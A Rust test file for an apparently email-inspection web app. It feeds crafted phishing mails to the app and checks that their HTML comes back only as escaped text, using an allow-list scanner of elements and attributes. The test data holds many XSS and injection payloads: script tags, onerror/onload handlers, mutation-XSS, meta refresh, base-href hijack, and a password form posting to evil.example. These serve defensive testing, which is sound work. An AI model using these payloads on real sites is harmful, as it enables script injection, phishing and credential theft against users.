//! Mails full of tricks: nothing of them reaches a page but as text.

use axum::http::StatusCode;

use crate::browser::{House, Part};

/// The elements that our own pages are made of.
const ELEMENTS: &[&str] = &[
    "a",
    "b",
    "body",
    "br",
    "button",
    "code",
    "dd",
    "details",
    "dl",
    "dt",
    "figcaption",
    "figure",
    "form",
    "h1",
    "h2",
    "h3",
    "head",
    "header",
    "html",
    "input",
    "label",
    "li",
    "link",
    "main",
    "mark",
    "meta",
    "nav",
    "ol",
    "option",
    "p",
    "pre",
    "section",
    "select",
    "small",
    "span",
    "summary",
    "table",
    "td",
    "textarea",
    "th",
    "title",
    "tr",
    "ul",
];
/// The attributes that they have.
const ATTRIBUTES: &[&str] = &[
    "action",
    "aria-current",
    "aria-label",
    "aria-labelledby",
    "autocapitalize",
    "autocomplete",
    "charset",
    "class",
    "content",
    "enctype",
    "for",
    "href",
    "hreflang",
    "id",
    "lang",
    "method",
    "multiple",
    "name",
    "rel",
    "required",
    "role",
    "rows",
    "scope",
    "selected",
    "spellcheck",
    "type",
    "value",
];

/// Faults of a page: an element or attribute that is none of ours, a tag that holds the word `hostile`, or an
/// address that leads elsewhere.
fn faults(page: &str) -> Vec<String> {
    let mut faults = Vec::new();
    for piece in page.split('<').skip(1) {
        let Some((tag, _)) = piece.split_once('>') else {
            faults.push(format!("an open bracket: {piece}"));
            continue;
        };
        let inner = tag.trim_start_matches('/');
        if inner.starts_with("!doctype") {
            continue;
        }
        let name = inner
            .split(|c: char| !c.is_ascii_alphanumeric())
            .next()
            .unwrap_or_default();
        if !ELEMENTS.contains(&name) {
            faults.push(format!("an element: {tag}"));
        }
        if tag.to_ascii_lowercase().contains("hostile") {
            faults.push(format!("foreign text in a tag: {tag}"));
        }
        let mut rest = inner.get(name.len()..).unwrap_or_default().trim_start();
        while !rest.is_empty() {
            let end = rest
                .find(|c: char| c == '=' || c.is_whitespace())
                .unwrap_or(rest.len());
            let (attribute, behind) = rest.split_at(end);
            if !ATTRIBUTES.contains(&attribute) {
                faults.push(format!("an attribute: {tag}"));
            }
            rest = match behind
                .strip_prefix("=\"")
                .and_then(|value| value.split_once('"'))
            {
                Some((value, rest)) => {
                    let leads = matches!(attribute, "href" | "action");
                    let is_ours = value.starts_with('#')
                        || (value.starts_with('/') && !value.starts_with("//"));
                    if leads && !is_ours {
                        faults.push(format!("a way out: {tag}"));
                    }
                    rest.trim_start()
                }
                None if behind.starts_with('=') => {
                    faults.push(format!("a bare value: {tag}"));
                    ""
                }
                None => behind.trim_start(),
            };
        }
    }
    faults
}

#[test]
fn the_reader_of_pages_sees_what_is_foreign() {
    for page in [
        "<script>x</script>",
        "<p onclick=\"x\">",
        "<p class=\"hostile\">",
        "<a href=\"https://a.example/\">",
        "<a href=\"//a.example/\">",
        "<a href=\"javascript:x\">",
        "<svg>",
        "<p style=\"x\">",
        "<p class=x>",
        "<p",
    ] {
        assert!(!faults(page).is_empty(), "{page}");
    }
    assert_eq!(
        faults("<!doctype html><p class=\"soft\">&#60;script&#62;</p>"),
        Vec::<String>::new()
    );
}

const BODIES: &[(&str, &str)] = &[
    (
        "script",
        "<script>hostile()</script><script src=\"https://evil.example/hostile.js\"></script>",
    ),
    (
        "handler",
        "<img src=\"https://evil.example/hostile.png\" onerror=\"hostile()\"><body onload=hostile()>",
    ),
    (
        "style",
        "<style>@import url(https://evil.example/hostile.css); .top{display:none}</style><p class=\"top\">hostile</p>",
    ),
    (
        "css",
        "<div style=\"position:fixed;inset:0;background:url(https://evil.example/hostile)\">hostile <a href=\"https://evil.example/hostile\">amazon.co.jp</a></div>",
    ),
    (
        "svg",
        "<svg onload=\"hostile()\"><script>hostile()</script><a xlink:href=\"javascript:hostile()\"><text>hostile</text></a></svg>",
    ),
    (
        "math",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hostile()&gt;\">",
    ),
    (
        "refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/hostile\">hostile",
    ),
    (
        "base",
        "<base href=\"https://evil.example/hostile/\"><a href=\"/hostile\">hostile</a>",
    ),
    (
        "form",
        "<form action=\"https://evil.example/hostile\"><input name=form_token value=hostile><input type=password><button>hostile</button></form>",
    ),
    (
        "frame",
        "<iframe srcdoc=\"<script>hostile()</script>\"></iframe><object data=\"https://evil.example/hostile\"></object>",
    ),
    (
        "label",
        "<a href=\"javascript:hostile()\">&lt;script&gt;hostile()&lt;/script&gt;</a> <a href=\"data:text/html,&lt;script&gt;hostile()&lt;/script&gt;\">hostile</a>",
    ),
    (
        "text",
        "&lt;/pre&gt;&lt;/details&gt;&lt;script&gt;hostile()&lt;/script&gt; https://evil.example/hostile",
    ),
    (
        "torn",
        "</pre></details></main><!-- <hostile \"'` <plaintext><textarea><title><xmp>hostile",
    ),
    (
        "template",
        "{{ hostile }} {% include \"hostile\" %} ${hostile} <%= hostile %>",
    ),
];

fn mail(body: &str) -> Vec<u8> {
    format!(
        "Received: from evil.example ([192.0.2.1]) by mx.example with ESMTP; Sun, 22 Nov 2026 08:00:00 +0900\r\n\
         From: \"Amazon.co.jp <script>hostile()</script>\" <hostile@sender.example>\r\n\
         Reply-To: \"'><img src=x onerror=hostile()>\" <hostile@evil.example>\r\n\
         Subject: </title><script>hostile()</script> \" onmouseover=\"hostile()\r\n\
         Date: Sun, 22 Nov 2026 08:00:00 +0900\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
         --b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body>Amazon {body}</body></html>\r\n\
         --b\r\nContent-Type: image/svg+xml; name=\"<svg onload=hostile()>.svg\"\r\n\
         Content-Disposition: attachment; filename=\"<svg onload=hostile()>.svg\"\r\n\r\n<svg/>\r\n\
         --b--\r\n"
    )
    .into_bytes()
}

#[test]
fn nothing_of_a_hostile_mail_reaches_the_page_but_as_text() {
    let house = House::new();
    let inside = house.inside();
    for (name, body) in BODIES {
        for language in ["ja", "en"] {
            let raw = mail(body);
            let file = Part::file("<img src=x onerror=hostile()>.eml", &raw);
            let verdict = inside.upload_in(language, &[inside.token_part(), file]);
            assert_eq!(verdict.status, StatusCode::OK, "{name}: {}", verdict.body);
            assert_eq!(
                faults(&verdict.body),
                Vec::<String>::new(),
                "{name}\n{}",
                verdict.body
            );
            let name = crate::browser::value_of(&verdict.body, "mail");
            let report = inside.get(&format!("/report?mail={name}"));
            assert_eq!(
                faults(&report.body),
                Vec::<String>::new(),
                "{name}\n{}",
                report.body
            );
            assert!(report.body.contains("&#60;script&#62;hostile()"));
            // What looks like a link is written so that no program makes one of it.
            assert!(
                !verdict.body.contains("https://evil.example"),
                "{name}\n{}",
                verdict.body
            );
            assert!(
                verdict.body.contains("&#60;script&#62;hostile()"),
                "{name}\n{}",
                verdict.body
            );
        }
        let text = inside.upload(&[inside.token_part(), Part::plain("text", body.as_bytes())]);
        assert_eq!(
            faults(&text.body),
            Vec::<String>::new(),
            "{name}\n{}",
            text.body
        );
    }
}

#[test]
fn our_own_pages_are_made_of_what_is_ours() {
    let house = House::new();
    crate::questions::kept_mail(&house, "</title><script>hostile()</script>");
    let inside = house.inside();
    for path in [
        "/",
        "/?lang=ja",
        "/check",
        "/help",
        "/help?lang=ja",
        "/settings",
        "/report?mail=%22%3E%3Cscript%3E",
        "/%3Cscript%3Ehostile()%3C/script%3E",
        "/check?lang=en&x=%22%3E%3Cscript%3E",
    ] {
        let page = inside.get(path);
        assert_eq!(
            faults(&page.body),
            Vec::<String>::new(),
            "{path}\n{}",
            page.body
        );
    }
}
